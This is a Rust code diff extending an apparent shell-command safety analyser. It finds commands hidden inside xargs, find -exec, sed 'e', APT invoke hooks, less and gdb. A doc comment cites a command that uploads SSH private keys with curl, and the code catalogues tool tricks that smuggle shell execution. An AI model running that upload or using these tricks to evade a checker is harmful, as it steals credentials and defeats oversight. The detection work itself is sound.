@@ -150,7 +150,7 @@ fn wrapped(name: &str, args: &[String], cmd: &SimpleCommand) -> Vec<Inner> {
         "chroot" => after_operand(args, &Opts::new("", &["userspec", "groups"])),
         "flock" => unwrap_flock(args),
         "watch" => unwrap_watch(args),
-        "xargs" => unwrap_xargs(args),
+        "xargs" => unwrap_xargs(args, cmd),
         "find" => unwrap_find(args),
         "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => unwrap_awk(args),
         "ssh" => unwrap_ssh(args),
@@ -311,12 +311,111 @@ fn hook_options(name: &str, args: &[String]) -> Vec<Inner> {
             .filter_map(|c| c.trim_start_matches(':').strip_prefix('!'))
             .filter_map(hook_script)
             .collect(),
+        // `less +cmd` runs a less command at start; `!cmd` in less runs a shell command.
+        "less" | "more" | "most" => args
+            .iter()
+            .filter_map(|a| a.strip_prefix('+'))
+            .filter_map(|c| c.trim_start_matches(':').strip_prefix('!'))
+            .filter_map(hook_script)
+            .collect(),
+        "apt" | "apt-get" | "aptitude" => option_values(args, &["-o"], &["option"])
+            .into_iter()
+            .filter_map(apt_hook)
+            .collect(),
+        "sed" | "gsed" => sed_commands(args),
         "gdb" => option_values(args, &["-ex"], &["eval-command"])
             .into_iter()
             .filter_map(|c| c.strip_prefix('!').or_else(|| c.strip_prefix("shell ")))
             .filter_map(hook_script)
             .collect(),
         _ => Vec::new(),
+    }
+}
+
+/// APT configuration items whose value is a shell command run around the operation:
+/// `-o APT::Update::Pre-Invoke::=cmd`, `-o DPkg::Post-Invoke::=cmd`.
+fn apt_hook(key_value: &str) -> Option<Inner> {
+    let (key, value) = key_value.split_once('=')?;
+    let key = key.trim_end_matches(':').to_ascii_lowercase();
+    let hook = key.ends_with("::pre-invoke")
+        || key.ends_with("::post-invoke")
+        || key.ends_with("::post-invoke-success")
+        || key.ends_with("::pre-install-pkgs");
+    hook.then(|| hook_script(value)).flatten()
+}
+
+/// Commands a sed script runs: GNU sed's `e command` runs `command`, and a bare `e` or the
+/// `e` flag of `s///e` runs text only known at run time. Scripts come from `-e`/
+/// `--expression` or, without them, the first operand; `-f` files are not visible.
+fn sed_commands(args: &[String]) -> Vec<Inner> {
+    let mut scripts = option_values(args, &["-e"], &["expression"]);
+    if scripts.is_empty() && !args.iter().any(|a| a == "-f" || a.starts_with("--file")) {
+        let i = skip_opts(args, &Opts::new("lf", &["line-length", "file"]));
+        scripts.extend(args.get(i).map(String::as_str));
+    }
+    let mut out = Vec::new();
+    for script in scripts {
+        sed_script(script.as_bytes(), &mut out);
+    }
+    out
+}
+
+/// Walks one sed script command by command (addresses, `!`, `{`/`}`, `s`/`y` with their
+/// delimiters, commands that take the rest of the line) and collects what `e` runs.
+fn sed_script(b: &[u8], out: &mut Vec<Inner>) {
+    let mut i = 0;
+    // Skips a delimited part (`/re/`, the pieces of `s/a/b/`), honouring backslashes.
+    let delimited = |mut i: usize, d: u8| -> usize {
+        while i < b.len() && b[i] != d {
+            i += if b[i] == b'\\' { 2 } else { 1 };
+        }
+        i + 1
+    };
+    let line_end = |i: usize| {
+        b[i.min(b.len())..]
+            .iter()
+            .position(|&c| c == b'\n')
+            .map_or(b.len(), |n| i + n)
+    };
+    while i < b.len() && out.len() < 16 {
+        let c = b[i];
+        if c.is_ascii_whitespace()
+            || matches!(c, b';' | b'{' | b'}' | b'!' | b',' | b'~' | b'+' | b'$')
+            || c.is_ascii_digit()
+        {
+            i += 1;
+            continue;
+        }
+        match c {
+            b'/' => i = delimited(i + 1, b'/'),
+            b'\\' if i + 1 < b.len() => i = delimited(i + 2, b[i + 1]),
+            b's' | b'y' if i + 1 < b.len() => {
+                let d = b[i + 1];
+                let mut j = delimited(i + 2, d);
+                j = delimited(j, d);
+                let flags_end = b[j.min(b.len())..]
+                    .iter()
+                    .position(|&f| !f.is_ascii_alphanumeric())
+                    .map_or(b.len(), |n| j + n);
+                if c == b's' && b[j.min(b.len())..flags_end].contains(&b'e') {
+                    out.extend(argv(&[DYNAMIC.to_string()]));
+                }
+                i = flags_end;
+            }
+            b'e' => {
+                let end = line_end(i + 1);
+                let text = String::from_utf8_lossy(&b[i + 1..end]);
+                match hook_script(&text) {
+                    Some(inner) => out.push(inner),
+                    None => out.extend(argv(&[DYNAMIC.to_string()])),
+                }
+                i = end;
+            }
+            b'a' | b'i' | b'c' | b'r' | b'R' | b'w' | b'W' | b'b' | b't' | b'T' | b':' | b'#' => {
+                i = line_end(i + 1);
+            }
+            _ => i += 1,
+        }
     }
 }
 
@@ -498,17 +597,48 @@ fn unwrap_after_dashes(args: &[String]) -> Vec<Inner> {
     }
 }
 
-fn unwrap_xargs(args: &[String]) -> Vec<Inner> {
+/// `xargs cmd` appends what arrives on stdin; `-I X` puts it where `X` stands. It is only
+/// known at run time (`$(...)`), except for the entries of a listing upstream: after
+/// `ls / |` the input names the entries of `/`, so `/*` is checked too.
+fn unwrap_xargs(args: &[String], cmd: &SimpleCommand) -> Vec<Inner> {
     let i = skip_opts(args, &Opts::new("ILnPdEsa", XARGS_VALUES));
-    let replace = args[..i]
-        .iter()
-        .any(|a| a.starts_with("-I") || a.starts_with("-i") || a.starts_with("--replace"));
+    let mut replace: Option<&str> = None;
+    let mut k = 0;
+    while k < i {
+        let a = args[k].as_str();
+        if a == "-I" {
+            replace = args.get(k + 1).map(String::as_str);
+            k += 1;
+        } else if let Some(r) = a.strip_prefix("--replace=") {
+            replace = Some(r);
+        } else if a == "-i" || a == "--replace" {
+            replace = Some("{}");
+        } else if let Some(r) = a.strip_prefix("-I").or_else(|| a.strip_prefix("-i")) {
+            replace = Some(r);
+        }
+        k += 1;
+    }
     let mut v: Vec<String> = args[i..].to_vec();
     if v.is_empty() {
         v.push("echo".to_string());
     }
-    if !replace {
-        v.push(DYNAMIC.to_string());
+    let listed = &cmd.piped_listing;
+    match replace.filter(|r| !r.is_empty()) {
+        Some(r) => {
+            // Each input line replaces `r`. A whole argument stands for what the listing
+            // names (`/usr/*`); inside a longer one (`/{}`), for one entry's name (`*`).
+            for a in v.iter_mut() {
+                if a == r {
+                    *a = listed.first().map_or(DYNAMIC, String::as_str).to_string();
+                } else if a.contains(r) {
+                    *a = a.replace(r, if listed.is_empty() { DYNAMIC } else { "*" });
+                }
+            }
+        }
+        None => {
+            v.push(DYNAMIC.to_string());
+            v.extend(listed.iter().cloned());
+        }
     }
     argv(&v)
 }
@@ -598,7 +728,9 @@ fn unwrap_env(args: &[String]) -> Vec<Inner> {
 }
 
 /// Each `-exec`/`-execdir`/`-ok` clause of `find` runs a command, with `{}` standing for
-/// found paths (the first search root stands in for them).
+/// found paths: the first search root stands in for them, and with `-name PATTERN` (or
+/// `-iname`) the command is checked a second time with `ROOT/**/PATTERN`, so
+/// `find / -name 'id_rsa*' -exec curl -F x=@{} …` shows which files it uploads.
 fn unwrap_find(args: &[String]) -> Vec<Inner> {
     let root = args
         .iter()
@@ -606,6 +738,12 @@ fn unwrap_find(args: &[String]) -> Vec<Inner> {
         .find(|a| !a.is_empty())
         .cloned()
         .unwrap_or_else(|| ".".to_string());
+    let named = args
+        .windows(2)
+        .find(|w| matches!(w[0].as_str(), "-name" | "-iname"))
+        .map(|w| w[1].as_str())
+        .filter(|n| n.chars().any(|c| c != '*'))
+        .map(|n| format!("{}/**/{n}", root.trim_end_matches('/')));
     let mut out = Vec::new();
     let mut i = 0;
     while i < args.len() {
@@ -615,11 +753,15 @@ fn unwrap_find(args: &[String]) -> Vec<Inner> {
             while end < args.len() && args[end] != ";" && args[end] != "+" {
                 end += 1;
             }
-            let v: Vec<String> = args[start..end]
-                .iter()
-                .map(|a| a.replace("{}", &root))
-                .collect();
+            let clause = &args[start..end];
+            let v: Vec<String> = clause.iter().map(|a| a.replace("{}", &root)).collect();
             out.extend(argv(&v));
+            if let Some(found) = named.as_deref() {
+                if clause.iter().any(|a| a.contains("{}")) {
+                    let v: Vec<String> = clause.iter().map(|a| a.replace("{}", found)).collect();
+                    out.extend(argv(&v));
+                }
+            }
             i = end;
         }
         i += 1;
